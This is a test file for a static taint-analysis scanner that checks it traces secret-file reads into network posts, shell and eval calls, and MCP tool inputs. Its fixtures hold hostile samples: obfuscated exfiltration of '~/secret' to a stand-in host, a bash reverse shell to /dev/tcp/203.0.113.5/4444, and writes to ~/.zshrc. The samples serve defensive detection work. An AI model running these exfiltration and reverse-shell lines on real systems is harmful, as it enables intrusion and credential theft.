import type { TaintProbe } from '@clawback/model'
import { expect, it } from 'vitest'

import { calls, factsOf, flows } from '../testkit.js'

it('follows a method looked up by name like the method', async () => {
  const facts = await factsOf({
    'a.py':
      'import requests\nf = open("~/secret")\ngetattr(requests, "po" + "st")("https://a.example", data=getattr(f, "re" + "ad")())\n',
  })
  expect(calls(facts)).toContain('3 requests.post(https://a.example, data=?)')
  expect(flows(facts)).not.toEqual([])
})

it('an import by a dotted name gives the first part of it', async () => {
  const facts = await factsOf({
    'a.py':
      'urllib = __import__("".join(["urllib", ".request"]))\nurllib.request.urlopen("https://a.example")\n',
  })
  expect(calls(facts)).toContain('2 urllib.request.urlopen(https://a.example)')
})

it('follows a parameter that names a parameter, and output to a device', async () => {
  const facts = await factsOf({
    'a.sh': 'V=curl\nN=V\n${!N} https://a.example\nbash -i >& /dev/tcp/203.0.113.5/4444 2>&1\n',
  })
  expect(calls(facts)).toEqual(
    expect.arrayContaining(['3 curl(https://a.example)', '4 bash(-i)', '4 >(/dev/tcp/203.0.113.5/4444)']),
  )
})

it('marks what a tool is called with, however it is registered', async () => {
  const probe: TaintProbe = {
    kind: 'taint',
    id: 'inputs',
    pack: 'test',
    tags: [],
    language: '*',
    sources: [{ pattern: 'tool.input', tag: 'tool-input' }],
    sinks: [
      { pattern: 'eval', tag: 'code' },
      { pattern: 'child_process.exec', tag: 'shell' },
    ],
    sanitizers: ['int'],
  }
  const found = async (path: string, text: string): Promise<number> =>
    flows(await factsOf({ [path]: text }, [probe])).length
  expect(
    await found(
      'a.py',
      'from mcp import FastMCP\napp = FastMCP("a")\n@app.tool()\ndef run(x: str):\n    """Runs."""\n    return eval(x)\n',
    ),
  ).toBe(1)
  expect(
    await found(
      'a.py',
      'from mcp import FastMCP\napp = FastMCP("a")\n@app.tool()\ndef run(x: str):\n    """Runs."""\n    return eval(str(int(x)))\n',
    ),
  ).toBe(0)
  expect(await found('b.py', 'def run(x):\n    return eval(x)\n')).toBe(0)
  expect(
    await found(
      'a.js',
      'import { exec } from "child_process"\nserver.tool("run", "Runs.", {}, async ({ line }) => exec(line))\n',
    ),
  ).toBe(1)
})

it.each([
  [
    'a property',
    'class A:\n    base = "~"\n    @property\n    def f(self):\n        return self.base + "/secret"\nrequests.post("u", data=open(A().f).read())',
  ],
  [
    'a generator',
    'def each():\n    for n in ["secret"]:\n        yield "~/" + n\nfor f in each():\n    requests.post("u", data=open(f).read())',
  ],
  [
    'a generator that hands on another',
    'def one():\n    yield "~/secret"\ndef all():\n    yield from one()\nfor f in all():\n    requests.post("u", data=open(f).read())',
  ],
])('follows %s of Python', async (_, code) => {
  expect(flows(await factsOf({ 'a.py': `import requests\n${code}\n` }))).toHaveLength(1)
})

it.each([
  ['a getter', 'class A { get f() { return "~/secret" } }\naxios.post("u", fs.readFileSync(new A().f))'],
  [
    'a generator',
    'function* each() { yield "~/secret" }\nfor (const f of each()) axios.post("u", fs.readFileSync(f))',
  ],
  [
    'items that pass a test',
    'const all = ["secret"].map((n) => "~/" + n).filter((f) => fs.existsSync(f)).map((f) => fs.readFileSync(f))\naxios.post("u", all)',
  ],
])('follows %s of JavaScript', async (_, code) => {
  const head = 'const fs = require("fs"), axios = require("axios")\n'
  expect(flows(await factsOf({ 'a.js': `${head}${code}\n` }))).toHaveLength(1)
})

it('what a method reads into its object is in the object', async () => {
  const parser: TaintProbe = {
    kind: 'taint',
    id: 'parser',
    pack: 'test',
    tags: [],
    language: '*',
    sources: [{ pattern: 'configparser.ConfigParser.read(*secret*)', tag: 'file' }],
    sinks: [{ pattern: 'requests.post', tag: 'net' }],
    sanitizers: [],
  }
  const code =
    'import configparser, requests\np = configparser.ConfigParser()\np.read("~/secret")\nrequests.post("u", json=dict(p["x"]))\n'
  expect(flows(await factsOf({ 'a.py': code }, [parser]))).toHaveLength(1)
})

it('files found in a folder have its path', async () => {
  const code =
    'from pathlib import Path\nimport requests\nfor f in (Path.home() / "secret").rglob("*.txt"):\n    requests.post("u", data=open(f).read())\n'
  expect(flows(await factsOf({ 'a.py': code }))).toHaveLength(1)
})

it.each([
  [
    'a table of functions',
    'a.py',
    'import requests\ndef one(x):\n    requests.post("u", data=x)\ndef two(x):\n    pass\nT = {"one": one, "two": two}\ndef go(name):\n    T[name](open("~/secret").read())\n',
  ],
  [
    'a function got out of a table',
    'a.py',
    'import requests\ndef one(x):\n    requests.post("u", data=x)\nT = {"one": one}\ndef go(name):\n    T.get(name)(open("~/secret").read())\n',
  ],
  [
    'an object of functions',
    'a.js',
    'const fs = require("fs"), axios = require("axios")\nconst t = { one: (x) => axios.post("u", x), two: (x) => x }\nfunction go(name) { t[name](fs.readFileSync("~/secret")) }\n',
  ],
])('follows whatever %s may call', async (_, path, code) => {
  expect(flows(await factsOf({ [path]: code }))).toHaveLength(1)
})

it.each([
  ['a.js', 'require("child_process").spawn(process.execPath, ["-e", "fetch(\\"https://a.example\\")"])\n'],
  [
    'a.py',
    'import subprocess, sys\nsubprocess.run([sys.executable, "-c", "fetch(\\"https://a.example\\")"])\n',
  ],
])('reads code that %s hands to the program it runs in', async (path, code) => {
  expect(calls(await factsOf({ [path]: code }))).toContainEqual(
    expect.stringContaining('fetch(https://a.example)'),
  )
})

it.each([
  ['a.py', 'fh = open("~/.zshrc", "a")\nfh.write("x")\n', '2 open.write(x, ~/.zshrc)'],
  [
    'b.py',
    'from pathlib import Path\nwith (Path.home() / ".zshrc").open("a") as fh:\n    fh.write("x")\n',
    '3 pathlib.Path.open.write(x, ~/.zshrc)',
  ],
])('what is written in %s to an open file names the file', async (path, code, expected) => {
  expect(calls(await factsOf({ [path]: code }))).toContain(expected)
})
